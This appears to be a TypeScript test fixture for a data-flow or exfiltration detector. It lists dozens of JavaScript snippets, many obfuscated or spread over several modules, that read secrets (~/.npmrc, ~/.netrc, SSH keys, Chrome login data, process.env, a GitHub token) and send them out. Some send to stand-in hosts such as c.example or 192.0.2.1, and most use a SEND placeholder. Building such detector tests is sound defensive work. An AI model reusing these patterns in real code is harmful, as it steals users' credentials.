/** What is followed from one module to another that does not name it. */
import { type Row, testLeaving } from './flows.ts';

/** Put in one place and taken from another, without either naming the other. */
const CHANNELS: readonly Row[] = [
  [
    'modules in a table, as webpack has them',
    '(()=>{var e={896:e=>{"use strict";e.exports=require("fs")},692:e=>{e.exports=require("https")},11:(e,t,r)=>{const n=r(896);t.grab=()=>n.readFileSync(process.env.HOME+"/.npmrc")},12:(e,t,r)=>{const n=r(692);t.put=e=>{const t=n.request({hostname:"c.example",method:"POST"});t.write(e),t.end()}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(11),o=r(12);o.put(t.grab())})()})();',
  ],
  [
    'data in a table, as webpack has it, and a part that is taken of a module',
    `(()=>{var e={902:e=>{e.exports=JSON.parse('{"version":"1.0.0","defaults":{"file":".npmrc"}}')},11:(e,t,r)=>{const{defaults:n}=r(902);const o=require("fs").readFileSync(process.env.HOME+"/"+n.file);e.exports={text:o}},12:(e,t,r)=>{const{text:n}=r(11);e.exports.put=()=>{SEND«n»}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}r(12).put()})();`,
  ],
  [
    'modules with getters, as webpack has them',
    '(()=>{var e={11:(e,t,r)=>{r.d(t,{A:()=>n});const n=()=>process.env}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n].call(s.exports,s,s.exports,r),s.exports}(()=>{var o=r(11);SEND«JSON.stringify((0,o.A)())»})()})();',
  ],
  [
    'modules around a function, as esbuild has them',
    'var n=Object.getOwnPropertyNames;var __commonJS=(cb,mod)=>function __require(){return mod||(0,cb[n(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};var require_a=__commonJS({"a.js"(exports,module){module.exports.grab=()=>process.env}});var require_b=__commonJS({"b.js"(exports,module){module.exports=function(d){SEND«JSON.stringify(d)»}}});var {grab}=require_a();var send=require_b();send(grab())',
  ],
  [
    'a function that loads',
    "const load=(n)=>require(n);const h=load('https');h.request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'one of two modules, by what is asked',
    "const c=require(process.env.PLAIN?'http':'https');const r=c.request({host:'c.example',method:'POST'});READ;r.end(k)",
  ],
  [
    'a function that loads by the loader behind',
    "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'strings of a list that a count turns',
    "const a=['/.npmrc','readFileSync','fs','homedir','os'];(function(l,n){while(--n)l.push(l.shift())})(a,3);const s=(i)=>a[(i+1)%5];const k=require(s(4))[s(3)](require(s(1))[s(0)]()+s(2));SEND«k»",
  ],
  [
    'an instance held by name',
    'class R{report(d){SEND«JSON.stringify(d)»}} const c={r:new R(),env:()=>({...process.env})};c.r.report(c.env())',
  ],
  [
    'a class that is gone through',
    "class S{*[Symbol.iterator](){for(const p of ['.netrc'])yield require('fs').readFileSync(process.env.HOME+'/'+p)}} const go=(s)=>SEND«JSON.stringify([...s])»;go(new S())",
  ],
  [
    'a minified bundle that asks for marks',
    'var l=Object.defineProperty;var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var v=(e,t)=>e;var u=(e,t,r)=>(r={},v(t||!e||!e.__esModule?l(r,"default",{value:e}):r,e));var d=c((E,p)=>{p.exports.collect=()=>({...process.env})});var S=u(d());SEND«JSON.stringify((0,S.collect)())»',
  ],
  [
    'a method that is bound and listens',
    "const {EventEmitter}=require('events');class C extends EventEmitter{go(){this.emit('snapshot',{...process.env})}} class U{attach(s){s.on('snapshot',this.push.bind(this))} push(s){SEND«JSON.stringify(s)»}} const c=new C();new U().attach(c);c.go()",
  ],
  [
    'a command in a tag',
    "import {$} from 'execa';const {stdout}=await $`gh auth token`;SEND«stdout»",
    { type: 'module' },
  ],
  [
    'what a class above is made with, out of an enumeration',
    "var K;(function(K){K['A']='.npmrc';K['B']='.netrc'})(K||(K={}));class P{constructor(k){this.k=k}} class F extends P{read(){return require('fs').readFileSync(require('os').homedir()+'/'+this.k)}} for(const k of Object.values(K))SEND«new F(k).read()»",
  ],
  [
    'what is handed to the class above',
    'class P{constructor(d){this.d=d}} class F extends P{constructor(d){super(d)} go(){SEND«JSON.stringify(this.d)»}} new F(process.env).go()',
  ],
  ['a setter', 'const o={set sink(v){SEND«JSON.stringify(v)»}};o.sink=process.env'],
  [
    'names that are symbols',
    "const k=Symbol('k'),s=Symbol('s');class C{get [k](){return process.env} [s](v){SEND«JSON.stringify(v)»}} const c=new C();c[s](c[k])",
  ],
  ['a tag', 'const send=(t,...v)=>SEND«v.join()»;send`${JSON.stringify(process.env)}`'],
  [
    'modules that are loaded together',
    "Promise.all(['fs','os'].map((n)=>import(n))).then(([fs,os])=>SEND«fs.readFileSync(os.homedir()+'/.npmrc')»)",
  ],
  [
    'what is assigned to an instance all at once',
    {
      'index.js':
        "import * as vault from './vault.js';class R{constructor({vault}){Object.assign(this,{vault})} async run(){SEND«await this.vault.load()»}} new R({vault}).run()",
      'vault.js':
        "import {readFileSync} from 'fs';import {homedir} from 'os';export const load=()=>readFileSync(homedir()+'/.netrc')",
    },
    { type: 'module' },
  ],
  [
    'a function of another module that packs',
    {
      'index.js': "const {pack}=require('./util');SEND«pack(process.env)»",
      'util.js': "exports.pack=(o)=>Buffer.from(JSON.stringify(o)).toString('base64')",
    },
  ],
  [
    'functions of other modules that pack, behind each other',
    {
      'index.js': "import {wrap} from './a.js';SEND«wrap('x',process.env)»",
      'a.js': "import {pack} from './b.js';export const wrap=(name,o)=>({name,body:pack(o)})",
      'b.js':
        "import {gzipSync} from 'zlib';export function pack(o){const t=JSON.stringify(o);return gzipSync(t).toString('base64')}",
    },
    { type: 'module' },
  ],
  [
    'a place that another module names',
    {
      'index.js': "const {F}=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+F)»",
      'c.js': "exports.F='/'+['.npm','rc'].join('')",
    },
  ],
  [
    'modules that another one passes on',
    {
      'index.js':
        "const {fs,os,https}=require('./deps');https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
      'deps.js': "exports.fs=require('fs');exports.os=require('os');exports.https=require('https')",
    },
  ],
  [
    'modules that another one passes on by name',
    {
      'index.js':
        "import {fs,os,https} from './deps.js';https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
      'deps.js':
        "export {default as fs} from 'node:fs';export * as os from 'node:os';import https from 'node:https';export {https}",
    },
    { type: 'module' },
  ],
  [
    'a database of a browser',
    "const {DatabaseSync}=require('node:sqlite');const db=new DatabaseSync(require('os').homedir()+'/.config/google-chrome/Default/Login Data');SEND«JSON.stringify(db.prepare('select * from logins').all())»",
  ],
  [
    'lines of a file',
    "const rl=require('readline').createInterface({input:require('fs').createReadStream(process.env.HOME+'/.npmrc')});rl.on('line',(l)=>{SEND«l»})",
  ],
  [
    'lines of a file by its handle',
    "import {open} from 'node:fs/promises';const h=await open(process.env.HOME+'/.npmrc');for await(const l of h.readLines())SEND«l»",
    { type: 'module' },
  ],
  [
    'what is found in the memory of another process',
    "const fs=require('fs');const p=process.argv[2];const fd=fs.openSync(['','proc',p,'mem'].join('/'),'r');const out=[];const b=Buffer.alloc(9);fs.readSync(fd,b,0,9,0);out.push(...b.toString('latin1').matchAll(/x/g));SEND«out.join()»",
  ],
  ['what a report tells of the environment', 'SEND«JSON.stringify(process.report.getReport())»'],
  [
    'places that another module lists',
    {
      'index.js':
        "import {FILES} from './all.js';import fs from 'fs';import os from 'os';for(const f of FILES)SEND«fs.readFileSync(os.homedir()+f)»",
      'all.js': "export * from './c.js'",
      'c.js': "export const FILES=['/.npmrc','/.ssh/id_rsa']",
    },
    { type: 'module' },
  ],
  [
    'places that a file of settings lists',
    {
      'index.js':
        "const {paths}=require('./c.json');const fs=require('fs');for(const f of paths.all)SEND«fs.readFileSync(require('os').homedir()+f)»",
      'c.json': '{"paths":{"all":["/.npmrc"]}}',
    },
  ],
  [
    'a service that a constructor is given',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{constructor(t){this.t=t} go(){this.t.send(process.env)}} new C(new T()).go()",
  ],
  [
    'what is put into an object that begins empty',
    'class C{constructor(){this.c={k:undefined}} set(k){this.c.k=k} go(){SEND«this.c.k»}} READ;const c=new C();c.set(k);c.go()',
  ],
  [
    'a loader in a URL',
    "require('module').register('data:text/javascript,'+encodeURIComponent(`fetch('x',{body:JSON.stringify(process.env)})`))",
  ],
  [
    'a worker in a URL',
    "const {Worker}=require('worker_threads');new Worker(new URL(`data:text/javascript,fetch('x',{body:JSON.stringify(process.env)})`))",
  ],
  [
    'a program that node reads',
    "const p=require('child_process').spawn(process.execPath,['-']);p.stdin.end(`fetch('x',{body:JSON.stringify(process.env)})`)",
  ],
  [
    'a module that is written first',
    "require('fs').writeFileSync('/tmp/z.js',`fetch('x',{body:JSON.stringify(process.env)})`);require('/tmp/z.js')",
  ],
  [
    'a service that is kept in private',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{#t;constructor(t){this.#t=t} go(){this.#t.send(process.env)}} new C(new T()).go()",
  ],
  [
    'the data of a worker',
    {
      'index.js':
        "const {Worker}=require('worker_threads');new Worker(require('path').join(__dirname,'w.js'),{workerData:{e:{...process.env}}})",
      'w.js':
        "const {workerData}=require('node:worker_threads');require('net').connect(443,'192.0.2.1').end(JSON.stringify(workerData.e))",
    },
  ],
  [
    'a message to a worker',
    {
      'index.js': "const {Worker}=require('worker_threads');const w=new Worker('./w.js');w.postMessage(process.env)",
      'w.js': "const {parentPort}=require('worker_threads');parentPort.on('message',m=>{SEND«JSON.stringify(m)»})",
    },
  ],
  [
    'a message to a child',
    {
      'index.js':
        "const {fork}=require('child_process');const c=fork(require.resolve('./w.js'));c.send({kind:'a',data:Object.assign({},process.env)})",
      'w.js': "process.on('message',async(m)=>{if(m.kind!=='a')return;SEND«JSON.stringify(m.data)»})",
    },
  ],
  [
    'an event',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
      'w.js': "const bus=require('./bus');bus.on('boot',({env})=>{SEND«JSON.stringify(env)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'an event of an object that calls it something else',
    {
      'index.js':
        "const {bus}=require('./bus');require('./w');READ;const hit=/Token=(.+)/.exec(k);bus.publish('who',{value:hit[1]})",
      'w.js': "const {bus}=require('./bus');bus.late('who',({value})=>{SEND«value»})",
      'bus.js':
        "const {EventEmitter}=require('events');exports.bus=new (class extends EventEmitter{publish(t,v){this.emit(t,v)} late(t,f){this.on(t,f)}})()",
    },
  ],
  [
    'what a parameter of a table keeps for its owner',
    "class S{all={};set(n,v){this.all[n]=v}} const fill={e:(s)=>s.set('e',{env:{...process.env}})};class C{s=new S();constructor(){for(const n of Object.keys(fill))fill[n](this.s)} go(){SEND«JSON.stringify({all:this.s.all})»}} new C().go()",
  ],
  [
    'a class of a module in a table',
    '(()=>{var e={11:(e)=>{class T{constructor(){this.e=JSON.stringify(process.env)} all(){return {e:this.e}}} e.exports={T}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const {T}=r(11);SEND«new T().all()»})()})();',
  ],
  [
    'a name that is made of each of a list',
    "const fs=require('fs');const all=['tides','npm'].map((n)=>require('os').homedir()+'/.'+n+'rc');SEND«all.map((p)=>fs.readFileSync(p)).join()»",
  ],
  [
    'functions one after the other, without a name for what goes through',
    {
      'index.js':
        "import {readFile} from 'fs/promises';import {homedir} from 'os';import {pipe,map,filter} from './iter.js';import {send} from './send.js';function*places(){yield homedir()+'/.npmrc'} const read=(p)=>readFile(p,'utf8');const go=pipe(map(read),filter(Boolean),map((text)=>({text})),map(send));go(places())",
      'send.js': 'export const send=(one)=>SEND«JSON.stringify(one)»',
      'iter.js':
        'const curry=(f)=>(...a)=>a.length>=f.length?f(...a):curry(f.bind(null,...a));export const pipe=(...fns)=>(x)=>fns.reduce((v,f)=>f(v),x);export const map=curry(async function*(f,s){for await(const x of s)yield await f(x)});export const filter=curry(async function*(f,s){for await(const x of s)if(f(x))yield x})',
    },
    { type: 'module' },
  ],
  [
    'names one after the other, by a library',
    "const R=require('ramda');const all=()=>process.env;const pack=(e)=>JSON.stringify(e);const send=(b)=>SEND«b»;const go=R.compose(send,pack,all);go()",
  ],
  [
    'what goes through functions from the beginning',
    "const {pipe}=require('remeda');pipe(Object.entries(process.env),(all)=>JSON.stringify(all),(b)=>SEND«b»)",
  ],
  [
    'the global object',
    {
      'index.js': "globalThis.__cfg=process.env;require('./w')",
      'w.js': 'SEND«JSON.stringify(__cfg)»',
    },
  ],
  [
    'an object that another module made',
    {
      'index.js': "import {store} from './store.js';import './fill.js';SEND«JSON.stringify(store.data)»",
      'fill.js': "import {store} from './store.js';store.data={...process.env}",
      'store.js': 'export const store={data:{}}',
    },
    { type: 'module' },
  ],
  [
    'a map that another module made',
    {
      'index.js': "const {cache}=require('./store');require('./fill');SEND«JSON.stringify(cache.get('e'))»",
      'fill.js': "const {cache}=require('./store');cache.set('e',process.env)",
      'store.js': 'exports.cache=new Map()',
    },
  ],
  [
    'a proxy before the environment',
    'const s=new Proxy({},{get:(_,k)=>Reflect.get(process.env,k),ownKeys:()=>Reflect.ownKeys(process.env)});const b={};for(const k of Reflect.ownKeys(s))b[k]=s[k];SEND«JSON.stringify(b)»',
  ],
  [
    'folders that a worker is told of',
    {
      'index.js':
        "const {Worker}=require('worker_threads');class Pool{constructor(f,workerData){this.w=new Worker(f,{workerData})}} new Pool('./w.js',{root:require('os').homedir(),dirs:['.ssh']})",
      'w.js':
        "const {workerData}=require('worker_threads');const fs=require('fs');for(const d of workerData.dirs){const p=workerData.root+'/'+d;for(const f of fs.readdirSync(p))SEND«fs.readFileSync(p+'/'+f)»}",
    },
  ],
  [
    'one of two things that a child is told of',
    {
      'index.js':
        "const c=require('child_process').fork('./c.js');c.send({dir:process.cwd(),names:Object.keys(process.env)})",
      'c.js':
        "process.once('message',(m)=>{const o={dir:m.dir};m.names.forEach((n)=>{o[n]=process.env[n]});SEND«JSON.stringify(o)»})",
    },
  ],
  [
    'what a container gives to a constructor',
    {
      'index.js':
        'const a=require("./api"),s=require("./settings");let Boot=class Boot{constructor(settings,api){this.settings=settings;this.api=api} start(){this.api.post(this.settings.all())}};Boot=__decorate([Injectable(),__metadata("design:paramtypes",[s.Settings,typeof a.Api==="undefined"?Object:a.Api])],Boot)',
      'settings.js':
        'class Settings{constructor(){this.values={...process.env}} all(){return this.values}} exports.Settings=Settings',
      'api.js': 'class Api{post(d){SEND«JSON.stringify(d)»}} exports.Api=Api',
    },
  ],
  [
    'what a client sends with every request',
    "const axios=require('axios').default;axios.defaults.headers.common['x-e']=JSON.stringify(process.env);axios.get('https://a.example')",
  ],
  [
    'what a client is made with',
    "const c=require('axios').create({baseURL:'https://a.example',headers:{e:JSON.stringify(process.env)}});c.get('/')",
  ],
  [
    'what sees each request of a client',
    "const c=require('axios').create({});c.interceptors.request.use((cfg)=>{cfg.data=process.env;return cfg});c.post('/')",
  ],
  [
    'what a function of another module tells the one that it is given',
    {
      'index.js':
        "const {each}=require('./keys');const rows=[];each((name,text)=>{rows.push(name+'.'+text)});SEND«rows.join()»",
      'keys.js':
        "const fs=require('fs'),os=require('os');exports.each=(fn)=>{['.npmrc'].forEach((n)=>fn(n,fs.readFileSync(os.homedir()+'/'+n,'utf8')))}",
    },
  ],
  [
    'an instance that another module makes, by what it says it holds',
    {
      'index.js': "import {Keys} from './keys.js';for(const k of new Keys())SEND«k»",
      'keys.js':
        "import {readFileSync} from 'node:fs';import {homedir} from 'node:os';export class Keys{*[Symbol.iterator](){yield readFileSync(homedir()+'/.npmrc')}}",
    },
    { type: 'module' },
  ],
  ['what a timer hands on to an export', 'READ;exports.up=(d)=>{SEND«d»};setImmediate(exports.up,k)'],
  [
    'a request of a connection that is only tried',
    "READ;const attempt=(fn)=>{try{return fn()}catch{}};const n=attempt(()=>parseInt('1'));const s=attempt(()=>require('http2').connect('https://c.example'));s?.request({':method':'POST'})?.end(k)",
  ],
  [
    'an instance that says itself what it is as a text',
    "const fs=require('fs');class K{get text(){return fs.readFileSync(process.env.HOME+'/.npmrc','utf8')} [Symbol.toPrimitive](){return this.text} go(){const q=`${this}`;SEND«q»}} new K().go()",
  ],
  [
    'what is published under a topic',
    {
      'index.js':
        "import {channel} from 'node:diagnostics_channel';import './up.js';const ch={ready:channel('acme:ready')};ch.ready.publish({env:process.env})",
      'up.js':
        "import {subscribe} from 'node:diagnostics_channel';subscribe('acme:ready',({env})=>{SEND«JSON.stringify(env)»})",
    },
    { type: 'module' },
  ],
  [
    'what is published on a channel that another module made',
    {
      'index.js': "const {ready}=require('./ready');require('./up');ready.publish({env:process.env})",
      'up.js': "const {ready}=require('./ready');ready.subscribe((m)=>{SEND«JSON.stringify(m.env)»})",
      'ready.js': "exports.ready=require('diagnostics_channel').channel('acme:ready')",
    },
  ],
  [
    'what a storage of another module holds',
    {
      'index.js': "import {ctx} from './ctx.js';import {go} from './go.js';ctx.run({env:process.env},()=>go())",
      'go.js':
        "import {ctx} from './ctx.js';export const go=()=>{const {env}=ctx.getStore();SEND«JSON.stringify(env)»}",
      'ctx.js': "import {AsyncLocalStorage} from 'node:async_hooks';export const ctx=new AsyncLocalStorage()",
    },
    { type: 'module' },
  ],
  [
    'what is put into a list that a storage of another module holds',
    {
      'index.js':
        "const {ctx}=require('./ctx');const r=require('./read'),u=require('./up');ctx.run({rows:[]},()=>{r.read();u.up()})",
      'read.js': "const {ctx}=require('./ctx');READ;exports.read=()=>{const s=ctx.getStore();s.rows.push(k)}",
      'up.js': "const {ctx}=require('./ctx');exports.up=()=>{for(const row of ctx.getStore().rows)SEND«row»}",
      'ctx.js': "exports.ctx=new (require('async_hooks').AsyncLocalStorage)()",
    },
  ],
  [
    'places that a function of another module gives',
    {
      'index.js': "const fs=require('fs');for(const p of require('./places').all())SEND«fs.readFileSync(p)»",
      'places.js': "exports.all=()=>['.npmrc'].map((n)=>require('path').join(require('os').homedir(),n))",
    },
  ],
  [
    'places among what a function of another module gives',
    {
      'index.js':
        "const fs=require('fs');const {begin}=require('./places');const s=begin();for(const n of s.names)SEND«fs.readFileSync(s.home+'/'+n)»",
      'places.js': "exports.begin=()=>({home:require('os').homedir(),names:['.npmrc'],out:[]})",
    },
  ],
  [
    'a method of an object that another module exports',
    {
      'index.js': "const {host}=require('./parts');host.tell().then((t)=>{SEND«t»})",
      'parts.js': "exports.host={async tell(){return require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')}}",
    },
  ],
  [
    'the environment behind a weak reference',
    'class K{constructor(){this.p=new WeakRef(process)} go(){SEND«JSON.stringify(this.p.deref().env)»}} new K().go()',
  ],
];

testLeaving(CHANNELS);
